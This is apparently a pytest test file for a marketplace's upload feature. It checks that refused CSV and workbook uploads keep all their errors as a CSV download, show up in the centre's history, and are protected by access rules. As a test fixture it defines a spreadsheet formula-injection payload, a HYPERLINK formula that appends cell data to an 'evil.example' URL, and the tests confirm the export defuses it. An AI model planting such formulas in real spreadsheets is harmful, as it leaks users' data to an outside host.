"""Refused uploads: every error downloads as CSV, and the file stays in the centre's history.

Issue 14: "A rejected upload with 798 errors lists 200 and offers no download; refused files
are not in the centre's history."
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from marketplace.accounts.tokens import create_token
from marketplace.benchmarks.models import Submission
from marketplace.extensions import db
from tests.benchmarks.ingest_world import csv_bytes, snapshot, xlsx_bytes

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _bad_file(n: int) -> bytes:
    """n problems: the first a formula where a number should be, then unknown metrics."""
    lines = [
        "metric,period,value",
        f'ap_cost_per_invoice,2026-Q3,"{FORMULA.replace(chr(34), chr(34) * 2)}"',
    ]
    lines += [f"no_such_metric_{i},2026-Q3,1" for i in range(n - 1)]
    return csv_bytes(*lines)


def _upload(client, content, filename="figures.csv", content_type="text/csv"):
    return client.post(
        "/centre/submissions/new",
        data={"file": (io.BytesIO(content), filename, content_type), "reason": ""},
        content_type="multipart/form-data",
    )


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def _rejected() -> Submission:
    return db.session.execute(
        db.select(Submission).where(Submission.status == "rejected")
    ).scalar_one()


def test_a_file_with_798_errors_lists_200_and_downloads_all_798(world, as_persona):
    client = as_persona("centre_user")
    before = snapshot()
    response = _upload(client, _bad_file(798))
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "798 problems found" in html and "Only the first 200 are listed." in html
    summary = html.split('class="govuk-error-summary"', 1)[1].split("</ul>", 1)[0]
    assert len(re.findall(r'<a href="#file">', summary)) == 200
    link = re.search(r'<a class="govuk-link" href="([^"]+/errors\.csv)" download>([^<]+)</a>', html)
    assert link.group(2) == "Download all 798 errors (CSV)"
    # None of the figures were saved.
    assert snapshot() == before

    download = client.get(link.group(1))
    assert download.status_code == 200
    assert download.mimetype == "text/csv"
    assert download.headers["Content-Disposition"].startswith("attachment;")
    assert download.headers["Cache-Control"] == "private, no-store"
    rows = _rows(download)
    assert rows[0] == ["row", "column", "value", "message"]
    assert len(rows) == 1 + 798
    # The value is the text as sent, defused so a spreadsheet shows it and runs nothing.
    assert rows[1][:3] == ["2", "value", "'" + FORMULA]
    assert rows[1][3].startswith("The value for ap_cost_per_invoice")
    assert rows[2][:3] == ["3", "metric", "no_such_metric_0"]
    assert "Unknown metric code" in rows[2][3]
    assert rows[-1][:3] == ["799", "metric", "no_such_metric_796"]


def test_the_refused_file_is_in_the_history_with_its_error_count(world, as_persona):
    client = as_persona("centre_user")
    _upload(client, _bad_file(3), filename="q3 broken.csv")
    html = client.get("/centre/submissions").get_data(as_text=True)
    row = re.search(r"<tr class=\"govuk-table__row\">\s*<th scope=\"row\".*?</tr>", html, re.S)
    text = re.sub(r"<[^>]+>", " ", row.group(0))
    assert "q3 broken.csv" in text and "Not accepted" in text and "3 errors" in text
    sub = _rejected()
    assert f"/centre/submissions/{sub.public_id}/errors.csv" in row.group(0)
    # Its own page lists the errors and offers the download and the file as sent.
    page = client.get(f"/centre/submissions/{sub.public_id}").get_data(as_text=True)
    assert "Not accepted: none of its figures were saved" in page
    assert "Download all 3 errors (CSV)" in page and "no_such_metric_1" in page
    assert client.get(f"/centre/submissions/{sub.public_id}/file").data == _bad_file(3)


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("anonymous", 302),
        ("buyer", 403),
        ("alb_buyer", 403),
        ("other_centre_user", 404),
        ("centre_user", 200),
        ("admin", 200),
    ],
)
def test_only_the_centres_people_and_admins_read_a_files_errors(world, as_persona, persona, status):
    _upload(as_persona("centre_user"), _bad_file(2))
    sub = _rejected()
    response = as_persona(persona).get(f"/centre/submissions/{sub.public_id}/errors.csv")
    assert response.status_code == status
    if status == 200:
        assert len(_rows(response)) == 3


def test_an_accepted_submission_has_no_errors_download(world, as_persona):
    client = as_persona("centre_user")
    location = _upload(
        client, csv_bytes("metric,period,value", "ap_cost_per_invoice,2026-Q3,4")
    ).headers["Location"]
    public_id = location.rsplit("/", 1)[1]
    assert client.get(f"/centre/submissions/{public_id}/errors.csv").status_code == 404


def test_a_refused_workbook_downloads_its_errors(world, as_persona):
    client = as_persona("centre_user")
    book = xlsx_bytes([["metric", "2026-Q3"], ["ap_cost_per_invoice", "@SUM(1)"], ["nope", 1]])
    response = _upload(client, book, "figures.xlsx", XLSX)
    assert response.status_code == 422
    rows = _rows(client.get(f"/centre/submissions/{_rejected().public_id}/errors.csv"))
    assert [r[:3] for r in rows[1:]] == [["2", "2026-Q3", "'@SUM(1)"], ["3", "metric", "nope"]]


def test_an_api_refusal_lists_200_says_how_many_and_keeps_every_error(world, client, personas):
    _, secret = create_token(personas["centre_user"], "script")
    response = client.post(
        f"/api/v1/centres/{world.centre.slug}/submissions",
        data=_bad_file(250),
        content_type="text/csv",
        headers={"Authorization": f"Bearer {secret}"},
    )
    assert response.status_code == 422
    body = response.get_json()
    assert len(body["errors"]) == 200
    assert "250 problems found" in body["detail"]
    assert "Only the first 200 are listed." in body["detail"]
    sub = _rejected()
    assert sub.channel == "api" and len(sub.errors) == 250
    assert f"/centre/submissions/{sub.public_id}/errors.csv" in body["detail"]
    # The script that sent the file fetches every error with its own token.
    api_url = (
        f"http://localhost/api/v1/centres/{world.centre.slug}/submissions/{sub.public_id}/errors"
    )
    assert api_url in body["detail"]
    download = client.get(api_url, headers={"Authorization": f"Bearer {secret}"})
    assert download.status_code == 200 and download.mimetype == "text/csv"
    rows = _rows(download)
    assert rows[0] == ["row", "column", "value", "message"] and len(rows) == 251
    assert rows[1][2].startswith("'=HYPERLINK")  # formula neutralised, as on the page
    assert "private" in download.headers["Cache-Control"]


def test_a_refusal_that_reads_no_rows_is_kept_with_its_one_error(world, as_persona):
    client = as_persona("centre_user")
    assert _upload(client, b"%PDF", "x.pdf", "application/pdf").status_code == 415
    rows = _rows(client.get(f"/centre/submissions/{_rejected().public_id}/errors.csv"))
    assert len(rows) == 2 and rows[1][0] == "" and rows[1][3]
